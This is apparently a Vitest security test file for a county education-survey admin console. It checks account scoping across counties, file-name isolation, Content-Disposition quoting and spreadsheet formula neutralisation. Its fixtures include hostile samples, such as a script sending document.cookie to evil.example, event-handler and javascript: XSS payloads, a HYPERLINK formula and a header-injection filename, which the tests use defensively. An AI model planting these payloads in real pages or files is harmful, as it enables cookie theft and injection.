/**
 * The console's smaller holes (issue 12, item 5), through the real loaders and actions: a school
 * moved to another county takes its contact's account with it; a county never sees another
 * county's evaluation data file name or importer; file names in Content-Disposition cannot be
 * broken by a quote; the pre-filled template neutralises formula-like text.
 */
import { readFile } from "node:fs/promises";
import { fileURLToPath } from "node:url";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { listAudit } from "../../../db/repositories/audit";
import { buildWorkbook } from "../../../app/.server/evaluation-import";
import { action as accountsAction, loader as accountsLoader } from "../../../app/routes/admin.accounts/route";
import { action as schoolsImportAction } from "../../../app/routes/admin.campaigns.$campaignId.schools-import/route";
import { action as dataAction, loader as dataLoader } from "../../../app/routes/admin.campaigns.$campaignId.evaluation-data/route";
import { loader as readinessLoader } from "../../../app/routes/admin.campaigns.$campaignId.counties.$countyId.readiness._index/route";
import { loader as exportLoader } from "../../../app/routes/admin_.export.$campaignId.$file/route";
import { action as publishAction } from "../../../app/routes/admin.questionnaires/route";
import { makeTestServices, type TestServices } from "../../support/services";
import { callAction, callLoader, makeAccount, roleCookies } from "./support";

const ROOT = fileURLToPath(new URL("../../..", import.meta.url));
let services: TestServices;
let cookies: Awaited<ReturnType<typeof roleCookies>>;

beforeAll(async () => {
  services = await makeTestServices();
  cookies = await roleCookies(services);
});
afterAll(async () => {
  await services.dispose();
});

function upload(bytes: Uint8Array, name: string): FormData {
  const f = new FormData();
  f.append("file", new File([Buffer.from(bytes)], name));
  return f;
}

async function accountId(username: string): Promise<number> {
  const row = await services.db.selectFrom("accounts").select("id").where("username", "=", username).executeTakeFirstOrThrow();
  return Number(row.id);
}

describe("a school moved to another county", () => {
  it("takes its contact's account along: the old county's officer can no longer manage it, the new one can", async () => {
    await makeAccount(services, "zn08-contact", "school", { schoolId: "zn08" });
    const id = await accountId("zn08-contact");
    const listed = async (cookie: string) =>
      ((await callLoader(services, accountsLoader, "/admin/accounts", { cookie })).body as { accounts: Array<{ username: string }> }).accounts.map(
        (a) => a.username,
      );
    expect(await listed(cookies.county)).toContain("zn08-contact");

    // 中宁县恩和镇红宝小学 moves to 沙坡头区 in the city's school list.
    const workbook = await buildWorkbook({
      format: "youzhi-junheng/evaluation-input",
      version: 1,
      counties: [{ id: "640502", name: "沙坡头区", residentPopulation: null, locationShare: null }],
      schools: [
        {
          id: "zn08",
          countyId: "640502",
          name: "恩和镇红宝小学",
          type: "primary",
          location: "rural",
          students: { primary: 230, junior: 0, senior: 0 },
          sections: {},
        },
      ],
      countyItems: [],
    });
    const imported = await callAction(services, schoolsImportAction, "/admin/campaigns/zw2026/schools-import", {
      cookie: cookies.city,
      params: { campaignId: "zw2026" },
      form: upload(workbook, "学校名单.xlsx"),
    });
    expect(imported.body).toMatchObject({ ok: true });
    const row = await services.db.selectFrom("accounts").select("county_id").where("id", "=", id).executeTakeFirstOrThrow();
    expect(row.county_id).toBe("640502");
    const [entry] = await listAudit(services.db, { action: "schools_imported", limit: 1 });
    expect(JSON.stringify(entry?.detail)).toContain("zn08-contact");

    expect(await listed(cookies.county)).not.toContain("zn08-contact");
    const refused = await callAction(services, accountsAction, "/admin/accounts", {
      cookie: cookies.county,
      form: { intent: "reset", accountId: String(id), password: "another horse battery 2026" },
    });
    expect(refused.status).toBe(403);
    expect(refused.body).toMatchObject({ message: "您的账号无权管理该账号：县（区）教育局只能管理本县（区）学校联络人的账号。" });
    const disable = await callAction(services, accountsAction, "/admin/accounts", {
      cookie: cookies.county,
      form: { intent: "disable", accountId: String(id) },
    });
    expect(disable.status).toBe(403);
    const still = await services.db.selectFrom("accounts").select(["disabled_at", "password_hash"]).where("id", "=", id).executeTakeFirstOrThrow();
    expect(still.disabled_at).toBeNull();

    expect(await listed(cookies.otherCounty)).toContain("zn08-contact");
    const ok = await callAction(services, accountsAction, "/admin/accounts", {
      cookie: cookies.otherCounty,
      form: { intent: "disable", accountId: String(id) },
    });
    expect(ok.body).toMatchObject({ ok: true, message: "已停用 zn08-contact" });
  });

  it("an account left in the old county by an earlier move is administered by the school's county all the same", async () => {
    await makeAccount(services, "zn07-contact", "school", { schoolId: "zn07" });
    const id = await accountId("zn07-contact");
    // As if the school had moved before accounts followed their schools.
    await services.db.updateTable("schools").set({ county_id: "640502" }).where("id", "=", "zn07").execute();
    const refused = await callAction(services, accountsAction, "/admin/accounts", {
      cookie: cookies.county,
      form: { intent: "disable", accountId: String(id) },
    });
    expect(refused.status).toBe(403);
    const ok = await callAction(services, accountsAction, "/admin/accounts", {
      cookie: cookies.otherCounty,
      form: { intent: "disable", accountId: String(id) },
    });
    expect(ok.body).toMatchObject({ ok: true });
    await services.db.updateTable("schools").set({ county_id: "640521" }).where("id", "=", "zn07").execute();
  });
});

describe("evaluation data file names", () => {
  async function countyFile(countyId: string, name: string, schoolId: string): Promise<Uint8Array> {
    return buildWorkbook({
      format: "youzhi-junheng/evaluation-input",
      version: 1,
      counties: [{ id: countyId, name, residentPopulation: null, locationShare: null }],
      schools: [
        { id: schoolId, countyId, name: `${name}测试学校`, type: "primary", location: "urban", students: { primary: 500, junior: 0, senior: 0 }, sections: {} },
      ],
      countyItems: [],
    });
  }

  it("a county sees its own file and importer, never another county's", async () => {
    const zn = await callAction(services, dataAction, "/admin/campaigns/zw2026/evaluation-data", {
      cookie: cookies.county,
      params: { campaignId: "zw2026" },
      form: upload(await countyFile("640521", "中宁县", "zn01"), "中宁县-评估数据.xlsx"),
    });
    expect(zn.body).toMatchObject({ ok: true });
    const spt = await callAction(services, dataAction, "/admin/campaigns/zw2026/evaluation-data", {
      cookie: cookies.otherCounty,
      params: { campaignId: "zw2026" },
      form: upload(await countyFile("640502", "沙坡头区", "spt01"), "沙坡头区-内部整改清单.xlsx"),
    });
    expect(spt.body).toMatchObject({ ok: true });

    const page = await callLoader(services, dataLoader, "/admin/campaigns/zw2026/evaluation-data", {
      cookie: cookies.county,
      params: { campaignId: "zw2026" },
    });
    expect(page.body).toMatchObject({ stored: { fileName: "中宁县-评估数据.xlsx", importedBy: "zn-officer" } });
    const readiness = await callLoader(services, readinessLoader, "/admin/campaigns/zw2026/counties/640521/readiness", {
      cookie: cookies.county,
      params: { campaignId: "zw2026", countyId: "640521" },
    });
    expect(readiness.status).toBe(200);
    expect(readiness.body).toMatchObject({ dataFile: { fileName: "中宁县-评估数据.xlsx", importedBy: "zn-officer" } });
    for (const text of [page.text, readiness.text]) {
      expect(text).not.toContain("沙坡头区-内部整改清单");
      expect(text).not.toContain("spt-officer");
    }
    const other = await callLoader(services, dataLoader, "/admin/campaigns/zw2026/evaluation-data", {
      cookie: cookies.otherCounty,
      params: { campaignId: "zw2026" },
    });
    expect(other.body).toMatchObject({ stored: { fileName: "沙坡头区-内部整改清单.xlsx", importedBy: "spt-officer" } });
    expect(other.text).not.toContain("中宁县-评估数据");
    // The city sees the campaign's latest file.
    const city = await callLoader(services, dataLoader, "/admin/campaigns/zw2026/evaluation-data", { cookie: cookies.city, params: { campaignId: "zw2026" } });
    expect(city.body).toMatchObject({ stored: { fileName: "沙坡头区-内部整改清单.xlsx" } });
  });
});

describe("downloads", () => {
  it("a quote in a county's name cannot break the Content-Disposition header", async () => {
    await services.db.updateTable("counties").set({ name: '中宁县"; filename="x.exe' }).where("id", "=", "640521").execute();
    try {
      const res = await callLoader(services, exportLoader, "/admin/export/zw2026/table6.xlsx?county=640521", {
        cookie: cookies.city,
        params: { campaignId: "zw2026", file: "table6.xlsx" },
      });
      expect(res.status).toBe(200);
      const header = res.headers.get("content-disposition") ?? "";
      expect(header.match(/"/g)?.length).toBe(2);
      expect(header).toMatch(/^attachment; filename="[^"]*"; filename\*=UTF-8''[A-Za-z0-9%._~-]+$/);
      expect(decodeURIComponent(header.split("''")[1] ?? "")).toBe('中宁县"; filename="x.exe-表Ⅵ社会认可度-zw2026.xlsx');
    } finally {
      await services.db.updateTable("counties").set({ name: "中宁县" }).where("id", "=", "640521").execute();
    }
  });

  it("the pre-filled template neutralises formula-like names (leading space, full-width ＝, line feed)", async () => {
    const names = ["＝1+1学校", ' =HYPERLINK("http://evil.example","点击")', "＠校长学校", "－作业学校"];
    const file = await buildWorkbook({
      format: "youzhi-junheng/evaluation-input",
      version: 1,
      counties: [{ id: "640521", name: "中宁县", residentPopulation: null, locationShare: null }],
      schools: names.map((name, i) => ({
        id: `zn0${String(i + 1)}`,
        countyId: "640521",
        name,
        type: "primary",
        location: "urban",
        students: { primary: 500, junior: 0, senior: 0 },
        sections: {},
      })),
      countyItems: [],
    });
    const imported = await callAction(services, dataAction, "/admin/campaigns/zw2026/evaluation-data", {
      cookie: cookies.county,
      params: { campaignId: "zw2026" },
      form: upload(file, "中宁县.xlsx"),
    });
    expect(imported.body).toMatchObject({ ok: true });
    const response = await exportLoader({
      request: new Request("https://survey.test/admin/export/zw2026/template.xlsx", { headers: { Cookie: cookies.county } }),
      params: { campaignId: "zw2026", file: "template.xlsx" },
      context: { services, clientAddress: "198.51.100.20", cspNonce: "test" },
    });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(await response.arrayBuffer());
    const values: string[] = [];
    wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((c) => values.push(String(c.value)))));
    const stored = values.filter((v) => names.some((n) => v.endsWith(n.trim())));
    expect(stored.length).toBeGreaterThanOrEqual(names.length);
    for (const v of stored) expect(v.startsWith("'")).toBe(true);
  });
});

describe("questionnaire HTML", () => {
  async function withNote(version: number, html: unknown, extra: Record<string, unknown> = {}): Promise<FormData> {
    const v1 = JSON.parse(await readFile(`${ROOT}/surveys/social.v1.json`, "utf8")) as { pages: Array<{ elements: unknown[] }> } & Record<string, unknown>;
    const [first, ...rest] = v1.pages;
    const pages = [{ ...first, elements: [{ type: "html", name: "notice", html }, ...(first?.elements ?? [])] }, ...rest];
    const f = new FormData();
    f.append(
      "file",
      new File([JSON.stringify({ ...v1, version, title: `社会卷第${String(version)}版`, pages, ...extra })], "social.json", { type: "application/json" }),
    );
    return f;
  }
  const stored = async () =>
    (await services.db.selectFrom("survey_definitions").select(["version", "json"]).where("questionnaire_id", "=", "social").execute()).map((r) => ({
      version: Number(r.version),
      json: r.json,
    }));

  it("refuses a definition whose html carries a script, an event handler, a javascript: link or a remote style, and stores nothing", async () => {
    const before = await stored();
    const bad = [
      '<p>请如实填写</p><script>navigator.sendBeacon("https://evil.example", document.cookie)</script>',
      '<img src="/x.png" onerror="alert(1)">',
      { default: "<p>说明</p>", "zh-cn": '<a href="javascript:alert(1)">说明</a>' },
      '<iframe src="https://evil.example/"></iframe>',
      '<p style="background-image: url(https://evil.example/t.png)">说明</p>',
    ];
    for (const html of bad) {
      const res = await callAction(services, publishAction, "/admin/questionnaires", { cookie: cookies.city, form: await withNote(3, html) });
      expect(res.status).toBe(400);
      const problems = (res.body as { problems: string[] }).problems;
      expect(problems[0]).toMatch(/^问卷.*「notice」\.html(\.zh-cn)? 含有不允许的 HTML：/);
      expect(problems.at(-1)).toMatch(/请删除上述内容后重新发布/);
    }
    const thanks = await callAction(services, publishAction, "/admin/questionnaires", {
      cookie: cookies.city,
      form: await withNote(3, "<p>说明</p>", { completedHtml: "<p>谢谢！</p><script>alert(1)</script>" }),
    });
    expect(thanks.status).toBe(400);
    expect((thanks.body as { problems: string[] }).problems[0]).toMatch(/completedHtml 含有不允许的 HTML：<script>/);
    expect(await stored()).toEqual(before);
    expect((await listAudit(services.db, { action: "definition_published", limit: 5 })).length).toBe(0);
  });

  it("publishes allowed markup, stored as the sanitiser wrote it", async () => {
    const res = await callAction(services, publishAction, "/admin/questionnaires", {
      cookie: cookies.city,
      form: await withNote(
        3,
        '<h3>说明</h3><p style="color: #c00">匿名填写 &amp; 约5分钟</p><a href="https://jyj.example.gov.cn/" target="_blank">常见问题</a>',
      ),
    });
    expect(res.status).toBe(200);
    const row = (await stored()).find((r) => r.version === 3);
    const json = JSON.parse(row?.json ?? "{}") as { pages: Array<{ elements: Array<{ name: string; html?: string }> }> };
    expect(json.pages[0]?.elements[0]?.html).toBe(
      '<h3>说明</h3><p style="color: #c00">匿名填写 &amp; 约5分钟</p><a href="https://jyj.example.gov.cn/" target="_blank" rel="noopener noreferrer">常见问题</a>',
    );
  });
});
